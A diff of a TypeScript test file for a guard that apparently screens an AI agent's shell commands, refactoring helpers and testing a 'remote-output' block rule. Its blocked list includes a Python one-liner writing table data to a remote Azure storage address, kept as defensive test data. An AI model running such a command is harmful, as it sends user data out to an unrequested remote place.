@@ -1,21 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { createGuard } from './guard.js';
-import type { GuardContext } from './types.js';
+import { decideBash } from '../../test/helpers/guard.js';
 
 const LOCAL_EXPORT = 'Export the orders table to a parquet file in ./exports.';
-
-function contextFor(message: string): GuardContext {
-  return {
-    cwd: '/home/dev/project',
-    projectDir: '/home/dev/project',
-    homeDir: '/home/dev',
-    userMessages: [message],
-  };
-}
-
-async function decide(command: string, message: string) {
-  return createGuard().decide({ tool: 'Bash', input: { command } }, contextFor(message));
-}
 
 describe('remote outputs', () => {
   it('blocks output written to an unnamed remote place', async () => {
@@ -28,7 +14,7 @@ describe('remote outputs', () => {
       "python -c \"import pandas as pd; pd.read_csv('a.csv').to_parquet('abfss://c@drop5.dfs.core.windows.net/o')\"",
     ];
     for (const command of commands) {
-      const decision = await decide(command, LOCAL_EXPORT);
+      const decision = await decideBash(command, LOCAL_EXPORT);
       expect(decision.verdict, command).not.toBe('allow');
       expect(decision.rule, command).toBe('stage1:remote-output');
     }
@@ -46,7 +32,7 @@ describe('remote outputs', () => {
       ['pip install -r requirements.txt', 'Install the requirements.'],
     ];
     for (const [command, message] of cases) {
-      expect((await decide(command, message)).verdict, command).toBe('allow');
+      expect((await decideBash(command, message)).verdict, command).toBe('allow');
     }
   });
 });
